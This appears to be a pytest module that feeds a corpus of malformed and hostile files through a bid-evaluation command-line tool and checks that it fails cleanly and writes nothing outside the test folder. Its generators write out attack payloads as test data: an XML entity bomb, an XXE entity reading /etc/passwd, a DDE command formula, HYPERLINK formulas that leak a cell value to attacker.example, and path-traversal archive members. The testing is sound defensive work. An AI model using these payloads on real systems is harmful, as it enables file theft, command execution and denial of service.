"""The hostile-input corpus: every case of tests/corpus/cases.yaml through the real CLI.

Each case is one malformed or hostile file (or a generator, defined below, for large files,
workbooks and archives). The file takes the place of the input of its kind in a private copy
of a bundled sample (docs/hostile-inputs.md):

* rubric → the rubric of `bideval evaluate RUBRIC BIDS_DIR`;
* bid → one more file in BIDS_DIR (or in place of `replaces`);
* scores → one more file in BIDS_DIR/scores (or in place of `replaces`);
* catalog → `bideval catalog --catalog FILE` (or `evaluate … --catalog FILE`);
* results → `bideval report FILE` (or `scorecard`);
* sheet → `bideval import-scores SHEET --rubric R --bids B --out DIR`;
* archive → `bideval verify ARCHIVE`.

An `error` case must exit 1 with a readable message naming the file (and `:line:` when the
manifest gives a line), no traceback and nothing written. An `ok` case must exit 0 and show
the manifest's facts: the winner, a score, text visible (escaped) in the PDF, text stored as
text in the workbook, and so on. Every case runs under a time limit, so a hang fails the case
instead of the suite; `isolate: true` cases run in a child process, so a crash of the
interpreter itself (e.g. a C stack overflow) fails only that case.
"""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml

from tests.conftest import KR, NIPA, ROOT, run

CORPUS = Path(__file__).resolve().parent / "corpus"
MANIFEST = CORPUS / "cases.yaml"
KINDS = ("rubric", "bid", "scores", "catalog", "sheet", "archive", "results")
CLASSES = (
    "syntax", "types", "yaml-bomb/alias", "duplicate-keys", "huge-numbers", "nan-infinity", "empty", "binary",
    "encoding", "size", "nesting", "id-cycles/duplicates", "html-injection", "formula-injection", "path-traversal",
    "odd-but-legal",
)  # fmt: skip
DEFAULT_COMMAND = {"rubric": "evaluate", "bid": "evaluate", "scores": "evaluate", "catalog": "catalog",
                   "results": "report", "sheet": "import-scores", "archive": "verify"}  # fmt: skip
SAMPLES = {"kr": KR, "nipa": NIPA}
ESCAPE = "bideval-corpus-escape"  # the name every path-traversal case tries to create
DEFAULT_TIMEOUT = 15  # seconds; a case may set its own `timeout`


def _load_manifest() -> list[dict]:
    return yaml.safe_load(MANIFEST.read_text(encoding="utf-8"))["cases"]


CASES = _load_manifest()


def _case_id(case: dict) -> str:
    if "file" in case:
        return case["file"].rsplit(".", 1)[0]
    return f"{case['kind']}/{case['generator']}"


# --------------------------------------------------------------------------------------------
# Generators: large files, workbooks and archives are made at test time, not committed.
# Each returns (file name, bytes) for rubric/bid/scores/results, or writes what it makes
# into the case folder and returns the paths for sheet/archive.
# --------------------------------------------------------------------------------------------


def _gen_rubric_over_5mib(_: Artifacts) -> tuple[str, bytes]:
    """The KR rubric followed by a comment that takes it just past 5 MiB: real bytes, not a sparse file."""
    text = KR[0].read_bytes()
    pad = b"# " + b"x" * 1022 + b"\n"
    return "rubric-over-5mib.yaml", text + pad * ((5 * 1024 * 1024 - len(text)) // len(pad) + 2)


def _gen_results_over_5mib(art: Artifacts) -> tuple[str, bytes]:
    """A real results.json with 5 MiB of whitespace inside it (valid JSON, too large to read)."""
    text = art.kr_results()
    return "results-over-5mib.json", text.replace(b"{", b"{" + b" " * (5 * 1024 * 1024), 1)


def _gen_scores_10k_bidders(_: Artifacts) -> tuple[str, bytes]:
    """An evaluator file scoring the five KR bidders and 10,000 bidders that do not exist."""
    lines = ["schema: bideval/scores/v1", "evaluator:", "  id: p-08", "  name: Extra evaluator", "  conflicts: []",
             "scores:"]  # fmt: skip
    for bidder in ("alpha-soft", "beta-systems", "delta-info", "epsilon-net", "gamma-data", *GHOSTS):
        lines += [f"  {bidder}:", "    understanding: 10", "    methodology: 20", "    management: 15",
                  "    track-record: 10"]  # fmt: skip
    return "p-08.yaml", ("\n".join(lines) + "\n").encode()


GHOSTS = [f"ghost-{i:05d}" for i in range(10_000)]


def _gen_bids_10k(_: Artifacts) -> tuple[str, bytes]:
    """10,000 bid files (written by the case's setup, see _place); this is the first of them."""
    return "b00000.yaml", _tiny_bid(0)


def _tiny_bid(i: int) -> bytes:
    return (f"schema: bideval/bid/v1\nbidder:\n  id: b{i:05d}\n  name: Bidder {i}\n"
            f"price: {1_000_000 + (i * 7919) % 100_003}\n").encode()  # fmt: skip


def _gen_rubric_criteria_400_deep(_: Artifacts) -> tuple[str, bytes]:
    """The KR rubric with its price criterion 400 levels down, in block style (1.3 MB of indentation)."""
    return "criteria-400-deep.yaml", _block_nested_rubric(400)


def _block_nested_rubric(depth: int) -> bytes:
    text = KR[0].read_text(encoding="utf-8")
    start = text.index("  - id: price\n")
    end = text.index("\npanel:")
    levels, indent = [], "  "
    for i in range(depth):
        levels.append(f"{indent}- id: level-{i}\n{indent}  label: Level {i}\n{indent}  points: 20\n"
                      f"{indent}  children:\n")  # fmt: skip
        indent += "    "
    price = "".join(f"{indent}{line[2:]}\n" for line in text[start:end].strip("\n").splitlines())
    return (text[:start] + "".join(levels) + price + text[end:]).encode()


def _gen_rubric_flow_35k_deep(_: Artifacts) -> tuple[str, bytes]:
    """`criteria:` holding a list nested 35,000 deep (70 KB): deeper than a recursive C parser's
    stack allows with the usual 8 MiB."""
    deep = b"[" * 35_000 + b"]" * 35_000
    return "criteria-35k-deep.yaml", b"schema: bideval/rubric/v1\ncriteria: " + deep + b"\n"


def _gen_scores_mapping_35k_deep(_: Artifacts) -> tuple[str, bytes]:
    """A score nested in 35,000 flow mappings."""
    deep = b"{a: " * 35_000 + b"1" + b"}" * 35_000
    return "deep-scores.yaml", b"schema: bideval/scores/v1\nscores: " + deep + b"\n"


# -- score sheets ----------------------------------------------------------------------------


def _sheet(art: Artifacts, folder: Path, name: str = "p-01.xlsx") -> Path:
    path = folder / name
    path.write_bytes(art.filled_sheet())
    return path


def _edit_xml(path: Path, part: str, change) -> None:
    """Rewrite one XML part of a workbook (as a hand-edited or forged file would be)."""
    with zipfile.ZipFile(path) as source:
        members = [(info, source.read(info)) for info in source.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info, data in members:
            target.writestr(info, change(data) if info.filename == part else data)


def _set_cell_xml(cell: str, xml: bytes):
    def change(data: bytes) -> bytes:
        new, count = re.subn(rb'<c r="' + cell.encode() + rb'"[^>]*?(/>|>.*?</c>)', xml, data, count=1)
        assert count == 1, f"cell {cell} not found"
        return new

    return change


def _forge_meta(path: Path, change) -> None:
    """Edit the hidden sheet and recompute its check value, as a forger would."""
    from openpyxl import load_workbook

    from bideval.sheets import META_SHEET, meta_check

    workbook = load_workbook(path)
    sheet = workbook[META_SHEET]
    rows = [[v for v in row if v is not None] for row in sheet.iter_rows(values_only=True)][:-1]
    change(rows)
    sheet.delete_rows(1, sheet.max_row)
    for r, row in enumerate([*rows, ["check", meta_check(rows)]], start=1):
        for c, value in enumerate(row, start=1):
            sheet.cell(r, c).value = value
    workbook.save(path)


def _gen_sheet_forged_evaluator(evaluator: str):
    def generate(art: Artifacts, folder: Path) -> list[Path]:
        path = _sheet(art, folder)

        def change(rows: list[list]) -> None:
            assert rows[2][0] == "evaluator"
            rows[2][1] = evaluator

        _forge_meta(path, change)
        return [path]

    return generate


def _gen_sheet_score_xml(xml: bytes):
    def generate(art: Artifacts, folder: Path) -> list[Path]:
        path = _sheet(art, folder)
        _edit_xml(path, "xl/worksheets/sheet1.xml", _set_cell_xml("B6", xml))
        return [path]

    return generate


def _gen_sheet_score_value(value: object):
    def generate(art: Artifacts, folder: Path) -> list[Path]:
        from openpyxl import load_workbook

        path = _sheet(art, folder)
        workbook = load_workbook(path)
        workbook.worksheets[0]["B6"] = value
        workbook.save(path)
        return [path]

    return generate


LAUGHS = b"".join(
    b'<!ENTITY l%d "%s">' % (i, (b"&l%d;" % (i - 1)) * 10 if i else b"lol") for i in range(10)
)


def _gen_sheet_entity(doctype: bytes, reference: bytes):
    """A DOCTYPE prepended to the visible sheet's XML, and the bidder name in A6 replaced by an entity."""

    def generate(art: Artifacts, folder: Path) -> list[Path]:
        path = _sheet(art, folder)

        def change(data: bytes) -> bytes:
            new, count = re.subn(rb'(<c r="A6"[^>]*><is><t>)[^<]*', rb"\g<1>" + reference, data, count=1)
            assert count == 1
            return doctype + new

        _edit_xml(path, "xl/worksheets/sheet1.xml", change)
        return [path]

    return generate


def _gen_sheet_formula_in_name(art: Artifacts, folder: Path) -> list[Path]:
    """The bidder's name cell replaced by a formula that shows the same name."""
    cell = b'<c r="A6"><f>HYPERLINK("http://attacker.example/","Alpha Soft")</f><v>Alpha Soft</v></c>'
    return _gen_sheet_score_xml_at("A6", cell)(art, folder)


def _gen_sheet_score_xml_at(cell: str, xml: bytes):
    def generate(art: Artifacts, folder: Path) -> list[Path]:
        path = _sheet(art, folder)
        _edit_xml(path, "xl/worksheets/sheet1.xml", _set_cell_xml(cell, xml))
        return [path]

    return generate


def _gen_sheet_formula_in_title(art: Artifacts, folder: Path) -> list[Path]:
    """Formulas typed into the cells bideval does not read (title, instructions): ignored, never run."""
    from openpyxl import load_workbook

    path = _sheet(art, folder)
    workbook = load_workbook(path)
    sheet = workbook.worksheets[0]
    sheet["A1"] = '=HYPERLINK("http://attacker.example/?x="&B6,"Open")'
    sheet["A2"] = "=cmd|' /C calc'!A0"
    sheet["H6"] = "=1+1"
    workbook.save(path)
    return [path]


def _gen_sheet_10k_extra_rows(art: Artifacts, folder: Path) -> list[Path]:
    """10,000 rows of junk below the table: not rows the hidden sheet knows, so not read."""
    from openpyxl import load_workbook

    path = _sheet(art, folder)
    workbook = load_workbook(path)
    sheet = workbook.worksheets[0]
    for row in range(20, 10_020):
        sheet.cell(row, 1).value = f"ghost-{row}"
        sheet.cell(row, 2).value = row
    workbook.save(path)
    return [path]


def _gen_sheet_plain_zip(_: Artifacts, folder: Path) -> list[Path]:
    path = folder / "p-01.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("readme.txt", "a zip, not a workbook")
        archive.writestr("../../" + ESCAPE + ".txt", "a member climbing out")
    return [path]


def _gen_sheet_truncated(art: Artifacts, folder: Path) -> list[Path]:
    path = folder / "p-01.xlsx"
    data = art.filled_sheet()
    path.write_bytes(data[: len(data) // 2])
    return [path]


# -- archives --------------------------------------------------------------------------------


def _archive_with(change, *, rehash: bool = True):
    """A real KR archive, its members changed by `change(members)`, the manifest's hashes
    recomputed (`rehash`) as someone covering their tracks would."""

    def generate(art: Artifacts, folder: Path) -> list[Path]:
        with zipfile.ZipFile(io.BytesIO(art.kr_archive())) as source:
            members = {info.filename: source.read(info) for info in source.infolist()}
        change(members)
        if rehash:
            manifest = json.loads(members["manifest.json"])
            manifest["files"] = {n: hashlib.sha256(d).hexdigest() for n, d in members.items()
                                 if n in manifest["files"]}  # fmt: skip
            members["manifest.json"] = json.dumps(manifest, indent=2).encode()
        path = folder / "archive.zip"
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
            for name, data in members.items():
                target.writestr(name, data)
        return [path]

    return generate


def _run_json(**settings):
    def change(members: dict[str, bytes]) -> None:
        run_json = json.loads(members["run.json"])
        run_json.update(settings)
        members["run.json"] = json.dumps(run_json).encode()  # json writes inf as Infinity, as a forger could

    return change


def _add_member(name: str, data: bytes = b"owned"):
    def change(members: dict[str, bytes]) -> None:
        members[name] = data

    return change


def _replace_member(name: str, data: bytes):
    def change(members: dict[str, bytes]) -> None:
        assert name in members
        members[name] = data

    return change


ALIAS_BOMB_BID = (b"schema: bideval/bid/v1\nbidder: {id: alpha-soft, name: Alpha Soft}\nprice: 1000000000\n"
                  b"facts: &a {x: 1}\nfinancing: *a\n")  # fmt: skip


def _gen_archive_truncated(art: Artifacts, folder: Path) -> list[Path]:
    path = folder / "archive.zip"
    data = art.kr_archive()
    path.write_bytes(data[: len(data) * 2 // 3])
    return [path]


GENERATORS = {
    "rubric-over-5mib": _gen_rubric_over_5mib,
    "results-over-5mib": _gen_results_over_5mib,
    "scores-10k-bidders": _gen_scores_10k_bidders,
    "bids-10k": _gen_bids_10k,
    "bids-10k-evaluated": _gen_bids_10k,
    "rubric-criteria-400-deep": _gen_rubric_criteria_400_deep,
    "rubric-flow-35k-deep": _gen_rubric_flow_35k_deep,
    "scores-mapping-35k-deep": _gen_scores_mapping_35k_deep,
    "sheet-evaluator-id-traversal": _gen_sheet_forged_evaluator(f"../../{ESCAPE}"),
    "sheet-evaluator-id-absolute": _gen_sheet_forged_evaluator(f"/tmp/{ESCAPE}"),
    "sheet-score-infinity": _gen_sheet_score_xml(b'<c r="B6" t="n"><v>1E+999</v></c>'),
    "sheet-score-nan": _gen_sheet_score_xml(b'<c r="B6" t="n"><v>NaN</v></c>'),
    "sheet-score-huge": _gen_sheet_score_value(1e308),
    "sheet-score-tiny": _gen_sheet_score_value(1e-30),
    "sheet-score-formula-dde": _gen_sheet_score_value("=cmd|' /C calc'!A0"),
    "sheet-xml-entity-bomb": _gen_sheet_entity(b"<!DOCTYPE worksheet [" + LAUGHS + b"]>", b"&l9;"),
    "sheet-xxe-file-url": _gen_sheet_entity(
        b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', b"&xxe;"),
    "sheet-formula-in-name-cell": _gen_sheet_formula_in_name,
    "sheet-formula-in-unread-cells": _gen_sheet_formula_in_title,
    "sheet-10k-extra-rows": _gen_sheet_10k_extra_rows,
    "sheet-plain-zip": _gen_sheet_plain_zip,
    "sheet-truncated": _gen_sheet_truncated,
    "archive-member-backslash-traversal": _archive_with(_add_member(f"inputs\\..\\..\\{ESCAPE}.yaml"), rehash=False),
    "archive-member-nested-dotdot": _archive_with(_add_member(f"inputs/bids/../../../{ESCAPE}.yaml"), rehash=False),
    "archive-run-json-rubric-traversal": _archive_with(_run_json(rubric=f"inputs/rubric/../../../{ESCAPE}.yaml")),
    "archive-run-json-catalog-absolute": _archive_with(_run_json(catalog="/etc/passwd")),
    "archive-run-json-alpha-infinity": _archive_with(
        _run_json(analysis={"seed": 0, "samples": 5, "alpha": float("inf")})),
    "archive-run-json-alpha-denormal": _archive_with(
        _run_json(analysis={"seed": 0, "samples": 5, "alpha": 5e-324})),
    "archive-manifest-100k-deep": _archive_with(
        _replace_member("manifest.json", b"[" * 100_000 + b"]" * 100_000), rehash=False),
    "archive-inputs-alias-bomb": _archive_with(_replace_member("inputs/bids/alpha-soft.yaml", ALIAS_BOMB_BID)),
    "archive-truncated": _gen_archive_truncated,
}


# --------------------------------------------------------------------------------------------
# Shared artifacts (built once, only when a case needs them)
# --------------------------------------------------------------------------------------------


class Artifacts:
    def __init__(self, folder: Path):
        self.folder = folder
        self._cache: dict[str, bytes] = {}

    def _evaluated_kr(self) -> Path:
        out = self.folder / "kr-out"
        if not out.exists():
            result = run("evaluate", *KR, "--out", out, "--format", "json", "--lang", "en", "--archive")
            assert result.exit_code == 0, result.output
        return out

    def kr_results(self) -> bytes:
        return (self._evaluated_kr() / "results.json").read_bytes()

    def kr_archive(self) -> bytes:
        return (self._evaluated_kr() / "archive.zip").read_bytes()

    def filled_sheet(self) -> bytes:
        """p-01's KR score sheet, made by `bideval sheets` and filled with p-01's own scores."""
        if "sheet" not in self._cache:
            from openpyxl import load_workbook

            from bideval.load.inputs import load_inputs

            folder = self.folder / "sheets"
            result = run("sheets", *KR, "--out", folder, "--lang", "en")
            assert result.exit_code == 0, result.output
            inputs = load_inputs(*KR)
            names = {bid.bidder.name.text("en"): bid.bidder.id for bid, _ in inputs.bids}
            given = next(s for s, _ in inputs.panel if s.evaluator.id == "p-01").scores
            path = folder / "p-01.xlsx"
            workbook = load_workbook(path)
            sheet = workbook.worksheets[0]
            for row in range(6, 6 + len(names)):
                bidder = names[sheet.cell(row, 1).value]
                for column in range(2, 6):
                    value = given[bidder][sheet.cell(4, column).value]
                    sheet.cell(row, column).value = int(value) if value == value.to_integral_value() else float(value)
            workbook.save(path)
            self._cache["sheet"] = path.read_bytes()
        return self._cache["sheet"]


@pytest.fixture(scope="module")
def artifacts(tmp_path_factory) -> Artifacts:
    return Artifacts(tmp_path_factory.mktemp("corpus-artifacts"))


# --------------------------------------------------------------------------------------------
# Placing a case and running it
# --------------------------------------------------------------------------------------------


@dataclass
class Placed:
    args: list[str]
    name: str  # the file name the messages must quote
    out: Path | None = None  # the output folder or file of the command


def _content(case: dict, art: Artifacts) -> tuple[str, bytes]:
    if "file" in case:
        path = CORPUS / case["file"]
        return path.name, path.read_bytes()
    return GENERATORS[case["generator"]](art)


def _place(case: dict, folder: Path, art: Artifacts) -> Placed:
    kind = case["kind"]
    command = case.get("command", DEFAULT_COMMAND[kind])
    sample = SAMPLES[case.get("sample", "kr")]
    fmt = case.get("format", "json")
    lang = case.get("lang", "en")
    out = folder / "out"
    if kind in ("sheet", "archive"):
        if "file" in case:
            target = folder / Path(case["file"]).name
            shutil.copy(CORPUS / case["file"], target)
            paths = [target]
        else:
            paths = GENERATORS[case["generator"]](art, folder)
        if kind == "archive":
            return Placed(["verify", *paths], paths[0].name)
        rubric, bids = _copy_sample(sample, folder)
        imported = folder / "imported"
        return Placed(["import-scores", *paths, "--rubric", rubric, "--bids", bids, "--out", imported],
                      paths[0].name, imported)  # fmt: skip
    name, data = _content(case, art)
    if kind == "results":
        target = folder / name
        target.write_bytes(data)
        out.mkdir()  # report/scorecard write into an existing folder
        produced = out / ("report.pdf" if command == "report" else "scorecard.xlsx")
        return Placed([command, target, "--out", produced, "--lang", lang], name, produced)
    rubric, bids = _copy_sample(sample, folder)
    catalog: list[str | Path] = []
    if kind == "rubric":
        rubric.unlink()
        rubric = folder / name
        rubric.write_bytes(data)
    elif kind in ("bid", "scores"):
        where = bids if kind == "bid" else bids / "scores"
        if case.get("replaces"):
            (where / case["replaces"]).unlink()
        if case.get("generator", "").startswith("bids-10k"):
            shutil.rmtree(bids)
            bids.mkdir()
            for i in range(10_000):
                (bids / f"b{i:05d}.yaml").write_bytes(_tiny_bid(i))
            rubric.write_text(PRICE_ONLY_RUBRIC, encoding="utf-8")
        (where / name).write_bytes(data)
    elif kind == "catalog":
        target = folder / name
        target.write_bytes(data)
        if command == "catalog":
            return Placed(["catalog", "--catalog", target], name)
        catalog = ["--catalog", target]
    if command == "validate":
        return Placed(["validate", rubric, bids, *catalog], name)
    outs = [] if case.get("default_out") else ["--out", out]
    return Placed(["evaluate", rubric, bids, *outs, "--format", fmt, "--lang", lang, *catalog], name,
                  folder / "out")  # fmt: skip


PRICE_ONLY_RUBRIC = """schema: bideval/rubric/v1
id: price-only
title: Price only
issuer: Corpus
currency: KRW
evaluation_date: 2025-09-15
criteria:
  - id: price
    label: Price
    points: 100
    method: ratio_to_best
    metric: price
    better: lower
"""


def _copy_sample(sample: tuple[Path, Path], folder: Path) -> tuple[Path, Path]:
    rubric, bids = sample
    shutil.copy(rubric, folder / rubric.name)
    shutil.copytree(bids, folder / "bids")
    return folder / rubric.name, folder / "bids"


class _Timeout(Exception):
    pass


@contextlib.contextmanager
def _time_limit(seconds: float):
    """Raise _Timeout in this (main) thread after `seconds`: a hang fails the case, not the suite."""
    if not hasattr(signal, "SIGALRM"):  # no interval timers on Windows: run without a limit
        yield
        return

    def expire(signum, frame):
        raise _Timeout(f"no answer after {seconds} s (a hang)")

    previous = signal.signal(signal.SIGALRM, expire)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


@dataclass
class Outcome:
    exit_code: int | None
    stdout: str
    stderr: str
    crash: str | None  # an exception other than the CLI's own exit, or a signal

    @property
    def output(self) -> str:
        return self.stdout + self.stderr


def _invoke(args: list, timeout: float, isolate: bool, cwd: Path) -> Outcome:
    args = [str(a) for a in args]
    if isolate:
        code = "import sys; from bideval.cli import app; app(sys.argv[1:], prog_name='bideval')"
        env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(ROOT), os.environ.get("PYTHONPATH", "")])}
        try:
            done = subprocess.run([sys.executable, "-c", code, *args], check=False, cwd=cwd, env=env,
                                  capture_output=True, timeout=timeout, text=True, encoding="utf-8",
                                  errors="replace")  # fmt: skip
        except subprocess.TimeoutExpired:
            return Outcome(None, "", "", f"no answer after {timeout} s (a hang)")
        crash = f"killed by signal {-done.returncode}" if done.returncode < 0 else None
        if crash is None and "Traceback (most recent call last)" in done.stderr:
            crash = done.stderr.strip().splitlines()[-1]
        return Outcome(done.returncode, done.stdout, done.stderr, crash)
    with _time_limit(timeout):
        try:
            result = run(*args)
        except _Timeout as exc:  # raised outside the command (CliRunner catches it inside)
            return Outcome(None, "", "", str(exc))
    crash = None
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        crash = f"{type(result.exception).__name__}: {result.exception}"
    return Outcome(result.exit_code, result.stdout, result.stderr, crash)


def _tree(folder: Path) -> set[str]:
    return {p.relative_to(folder).as_posix() for p in folder.rglob("*")}


def _escaped(folder: Path) -> list[Path]:
    """Files a path-traversal case managed to create outside its folder (or anywhere nearby)."""
    places = [folder, *list(folder.parents)[:4], Path("/tmp")]
    return [p for place in places for p in place.glob(f"{ESCAPE}*")]


def _flat(text: str) -> str:
    """Text without whitespace or table borders: messages wrapped in a rich table still match."""
    return re.sub(r"[\s│┃|]+", "", text)


# --------------------------------------------------------------------------------------------
# Facts of ok cases
# --------------------------------------------------------------------------------------------


def _results(placed: Placed) -> dict:
    assert placed.out is not None
    return json.loads((placed.out / "results.json").read_text(encoding="utf-8"))


def _pdf_text(path: Path) -> str:
    from pypdf import PdfReader

    return "".join(page.extract_text() or "" for page in PdfReader(path).pages)


def _check_facts(case: dict, placed: Placed, outcome: Outcome) -> None:
    facts = case.get("facts", {})
    if "winners" in facts:
        assert _results(placed)["outcome"]["winners"] == facts["winners"]
    if "bids" in facts:
        assert len(_results(placed)["bids"]) == facts["bids"]
    for bidder, status in facts.get("status", {}).items():
        got = {b["bidder_id"]: b["status"] for b in _results(placed)["bids"]}
        assert got.get(bidder) == status, f"{bidder}: {got.get(bidder)}, expected {status}"
    if "score" in facts:
        bidder, criterion, value = facts["score"]
        bid = next(b for b in _results(placed)["bids"] if b["bidder_id"] == bidder)
        got = next(c["score"] for c in bid["criteria"] if c["id"] == criterion)
        assert got == value, f"{bidder} / {criterion}: {got}, expected {value}"
    for text in facts.get("stdout_contains", []):
        assert text in outcome.stdout, f"{text!r} not in the output:\n{outcome.stdout[-3000:]}"
    for text in facts.get("stdout_lacks", []):
        assert text not in outcome.stdout, f"{text!r} reached standard output"
    if "pdf_shows" in facts:
        _check_pdf(placed, facts["pdf_shows"])
    if "xlsx_text" in facts:
        _check_xlsx(placed, facts["xlsx_text"])
    for evaluator in facts.get("imported", []):
        _check_imported(placed, evaluator)


def _check_pdf(placed: Placed, shown: list[str]) -> None:
    """Each text is printed literally in the PDF (so it was escaped, not read as markup), and the
    HTML the PDF is printed from holds only its escaped form."""
    from markupsafe import escape

    from bideval.engine.result_file import load_results
    from bideval.render.html import render_html

    pdf = placed.out if placed.out.suffix == ".pdf" else placed.out / "report.pdf"
    text = _flat(_pdf_text(pdf))
    missing = [s for s in shown if _flat(s) not in text]
    assert not missing, f"not printed literally in {pdf.name}: {missing}"
    results = placed.args[1] if placed.args[0] == "report" else placed.out / "results.json"
    html = render_html(load_results(Path(results)), "en")
    for s in shown:
        if "<" in s:
            assert s not in html, f"raw markup in the report HTML: {s}"
            assert str(escape(s)) in html, f"escaped form missing from the report HTML: {escape(s)}"


def _check_xlsx(placed: Placed, texts: list[str]) -> None:
    """Every text is stored as a string cell, and the workbook has no formula cell at all."""
    from openpyxl import load_workbook

    path = placed.out if placed.out.suffix == ".xlsx" else placed.out / "scorecard.xlsx"
    strings: set[str] = set()
    formulas: list[str] = []
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(f"{sheet.title}!{cell.coordinate}: {cell.value}")
                elif isinstance(cell.value, str):
                    strings.add(cell.value)
    assert not formulas, f"formula cells in {path.name}: {formulas[:5]}"
    missing = [t for t in texts if not any(t in s for s in strings)]
    assert not missing, f"not stored as text in {path.name}: {missing}"


def _check_imported(placed: Placed, evaluator: str) -> None:
    """The imported scores file exists and bideval's own loader accepts it."""
    from bideval.load.strict_yaml import read_document
    from bideval.load.validate import validate
    from bideval.model.scores import SCORES_SCHEMA, Scores

    path = placed.out / f"{evaluator}.yaml"
    assert path.is_file(), f"{path.name} not written"
    doc, problems = read_document(path, path.name)
    assert doc is not None and not problems, [str(p) for p in problems]
    model, problems = validate(doc, Scores, SCORES_SCHEMA)
    assert model is not None, [str(p) for p in problems]


# --------------------------------------------------------------------------------------------
# The tests
# --------------------------------------------------------------------------------------------


# Known failures: cases whose correct behaviour is not built yet. Each is a strict xfail — when a
# fix lands the case passes and pytest says so — and is listed as open work in docs/hostile-inputs.md.
KNOWN_BUGS: dict[str, str] = {}  # case id -> reason; see docs/hostile-inputs.md


def _param(case: dict):
    reason = KNOWN_BUGS.get(_case_id(case))
    marks = [pytest.mark.xfail(reason=f"known bug: {reason}", strict=True)] if reason else []
    return pytest.param(case, id=_case_id(case), marks=marks)


@pytest.mark.parametrize("case", [_param(c) for c in CASES])
def test_corpus_case(case: dict, tmp_path: Path, artifacts: Artifacts, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "case"
    folder.mkdir()
    monkeypatch.chdir(folder)  # a default output folder (out/RUBRIC-ID) stays inside the case
    placed = _place(case, folder, artifacts)
    before = _tree(folder)
    outcome = _invoke(placed.args, case.get("timeout", DEFAULT_TIMEOUT), case.get("isolate", False), folder)
    assert outcome.crash is None, f"crashed: {outcome.crash}\n{outcome.output[-3000:]}"
    assert "Traceback" not in outcome.output, outcome.output[-3000:]
    assert not _escaped(folder), f"a file was written outside the case folder: {_escaped(folder)}"
    if case["expected"] == "error":
        assert outcome.exit_code == 1, f"exit {outcome.exit_code}, expected 1\n{outcome.output[-3000:]}"
        # verify reports in a table on stdout; every other command prints `error:` lines on stderr
        said = outcome.output if case["kind"] == "archive" else outcome.stderr
        assert placed.name in said, f"{placed.name} not named:\n{said[-3000:]}"
        lines = case["line"] if isinstance(case["line"], list) else [case["line"]]
        if lines != [0]:
            where = case.get("located_in", placed.name)  # an archive member, for verify
            pattern = rf"{re.escape(where)}:({'|'.join(map(str, lines))}):\d+:"
            located = re.search(pattern, _flat(said) if case["kind"] == "archive" else said)
            assert located, f"no {where}:{'|'.join(map(str, lines))}: in:\n{said[-3000:]}"
        message = said.replace(placed.name, "")  # `contains` must match the message, not the file's name
        text = _flat(message) if case["kind"] == "archive" else message
        wanted = _flat(case["contains"]) if case["kind"] == "archive" else case["contains"]
        assert wanted in text, f"{case['contains']!r} not in:\n{said[-3000:]}"
        for unwanted in case.get("lacks", []):
            assert unwanted not in message, f"the message shows {unwanted!r}:\n{said[-3000:]}"
        new = sorted(_tree(folder) - before)
        assert not new, f"written despite the error: {new[:10]}"
    else:
        assert outcome.exit_code == 0, f"exit {outcome.exit_code}, expected 0\n{outcome.output[-3000:]}"
        _check_facts(case, placed, outcome)


def test_manifest_lists_every_file_once_and_covers_every_class() -> None:
    """cases.yaml and tests/corpus/ agree, every entry is well formed, and every class is covered."""
    listed = [c["file"] for c in CASES if "file" in c]
    assert len(listed) == len(set(listed)), "a file is listed twice"
    on_disk = {p.relative_to(CORPUS).as_posix() for p in CORPUS.rglob("*") if p.is_file() and p != MANIFEST}
    unlisted, missing = sorted(on_disk - set(listed)), sorted(set(listed) - on_disk)
    assert not unlisted and not missing, f"unlisted: {unlisted}; missing: {missing}"
    ids = [_case_id(c) for c in CASES]
    assert len(ids) == len(set(ids)), "two cases share an id"
    for case in CASES:
        assert ("file" in case) != ("generator" in case), case
        assert case.get("generator", "") in ("", *GENERATORS), case
        assert case["kind"] in KINDS and case["class"] in CLASSES, case
        if "file" in case:
            assert case["file"].split("/")[0] == case["kind"], case
        assert case["expected"] in ("error", "ok"), case
        if case["expected"] == "error":
            line = case.get("line")
            assert isinstance(line, int) or (isinstance(line, list) and line and 0 not in line), case
            assert case.get("contains"), case
        else:
            assert case.get("facts"), f"an ok case needs a fact to check: {case}"
    assert {c["class"] for c in CASES} == set(CLASSES)
    assert len(listed) >= 70
